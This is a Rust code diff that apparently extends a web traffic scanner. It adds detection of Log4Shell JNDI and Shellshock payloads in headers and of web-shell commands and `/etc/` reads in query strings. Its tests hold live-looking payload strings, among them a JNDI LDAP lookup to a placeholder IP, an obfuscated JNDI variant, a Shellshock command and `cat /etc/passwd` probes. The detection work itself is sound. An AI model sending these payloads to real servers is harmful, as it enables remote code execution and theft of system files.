@@ -157,6 +157,17 @@ impl PayloadPatterns {
         None
     }
 
+    /// Whether a header holds what a logger would look up, or what a shell would run: who sends that cares for no answer. Nothing else is looked
+    /// for, as texts of everyday may stand there.
+    pub(crate) fn is_in_header(&self, text: &[u8]) -> bool {
+        let has = |beginning: &[u8]| memchr::memmem::find(text, beginning).is_some();
+        if memchr::memchr(b'{', text).is_none() || !has(b"${") && !has(b"()") {
+            return false;
+        }
+        let kinds = self.set.matches(text).into_iter().filter_map(|index| self.kinds.get(index).copied());
+        kinds.into_iter().any(|kind| matches!(kind, Payload::Jndi | Payload::Command))
+    }
+
     /// What a decoded URI carries. `hidden`: something in it was encoded.
     fn of_decoded(&self, decoded: &[u8], path: usize, hidden: bool) -> Option<Payload> {
         // Which it is takes longer than whether it is one.
@@ -265,7 +276,23 @@ fn may_be_one(uri: &[u8]) -> bool {
     false
 }
 
-/// Whether a value of a query, from its `=` on, is a payload made of words alone: an address, a serialised object, ThinkPHP's
+/// What is tried first where a shell may listen.
+const COMMANDS: [&[u8]; 12] = [
+    b"id",
+    b"whoami",
+    b"uname",
+    b"cat",
+    b"ls",
+    b"dir",
+    b"ipconfig",
+    b"ifconfig",
+    b"hostname",
+    b"systeminfo",
+    b"net",
+    b"phpinfo",
+];
+
+/// Whether a value of a query, from its `=` on, is a payload made of words alone: an address, a serialised object, a command, ThinkPHP's
 /// `s=`.
 fn is_telling_value(query: &[u8], equals: usize) -> bool {
     let value = &query[equals + 1..];
@@ -274,6 +301,8 @@ fn is_telling_value(query: &[u8], equals: usize) -> bool {
         Some(b'1') => starts(b"169.254."),
         Some(b'r' | b'R') => starts(b"ro0ab"),
         Some(b'a' | b'A') => starts(b"aced0005"),
+        Some(b'/') => starts(b"/etc/"),
+        _ if COMMANDS.iter().any(|command| starts(command)) => true,
         _ => matches!(query[..equals], [.., b'?' | b'&', b's']),
     }
 }
@@ -308,10 +337,36 @@ mod tests {
     use super::*;
 
     #[test]
+    fn what_headers_carry() {
+        let patterns = PayloadPatterns::parse(include_str!("lists/payloads.regex")).unwrap();
+        for (header, expected) in [
+            ("${jndi:ldap://198.51.100.9:1389/a}", true),
+            ("Mozilla/5.0 ${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.9/a}", true),
+            ("() { :;}; /bin/bash -c id", true),
+            ("https://www.example.com/${page}", false),
+            ("https://www.example.com/?q=<script>alert(1)</script>", false),
+            ("Mozilla/5.0 (X11; Linux x86_64) {build}", false),
+            ("f() {}", false),
+            ("", false),
+        ] {
+            assert_eq!(patterns.is_in_header(header.as_bytes()), expected, "{header}");
+        }
+    }
+
+    #[test]
     fn what_uris_carry() {
         let patterns = PayloadPatterns::parse(include_str!("lists/payloads.regex")).unwrap();
         let mut wrong = Vec::new();
         for (uri, expected) in [
+            // Shells that may have been uploaded.
+            ("/up/tunnel.jsp?pass=1&cmd=cat%20/etc/passwd", "command"),
+            ("/a.asp?c=whoami", "command"),
+            ("/test.php%253B.jpg?cmd=id", "command"),
+            ("/web.config?cmd=id", "command"),
+            ("/x?file=/etc/passwd", "traversal"),
+            ("/list?sort=id&dir=asc&c=id", ""),
+            ("/list.php?c=idea", ""),
+            ("/docs?page=/etc/apt/sources.list", ""),
             // Climbing.
             ("/../../../etc/passwd", "traversal"),
             ("/bucket/../../etc/passwd", "traversal"),
